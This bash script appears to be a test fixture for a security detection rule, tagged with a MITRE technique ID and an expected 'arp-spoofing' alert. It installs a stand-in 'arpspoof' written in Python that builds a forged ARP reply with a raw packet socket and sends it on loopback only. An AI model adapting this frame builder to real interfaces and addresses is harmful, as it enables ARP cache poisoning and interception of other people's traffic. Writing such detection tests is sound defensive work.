#!/bin/bash
# ARP cache poisoning: an arpspoof-like program opens a packet socket for ARP frames and
# sends one forged "192.0.2.1 is at our MAC" reply. arpspoof (dsniff) is not installed:
# /usr/local/bin/arpspoof is a stand-in with its name (the signature keys on it as well
# as on the ARP socket), and it sends its single frame on the loopback interface only.
# technique: T1557.002
# expect: arp-spoofing
set -eu
mkdir -p /usr/local/bin
cat > /usr/local/bin/arpspoof <<'PY'
#!/usr/bin/python3
# stand-in for dsniff's arpspoof: one forged ARP reply, sent on lo only
import socket
import struct
import sys

iface = sys.argv[sys.argv.index("-i") + 1]
gateway = sys.argv[-1]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
s.bind((iface, 0))
ours = b"\x02\x00\x00\x00\x00\x01"
frame = b"\xff" * 6 + ours + struct.pack("!H", 0x0806)
frame += struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)  # Ethernet, IPv4, reply
frame += ours + socket.inet_aton(gateway) + b"\xff" * 6 + socket.inet_aton("192.0.2.10")
s.send(frame)
print(f"{gateway} is-at 2:0:0:0:0:1 (sent on {iface})")
PY
chmod +x /usr/local/bin/arpspoof
arpspoof -i lo -t 192.0.2.10 192.0.2.1
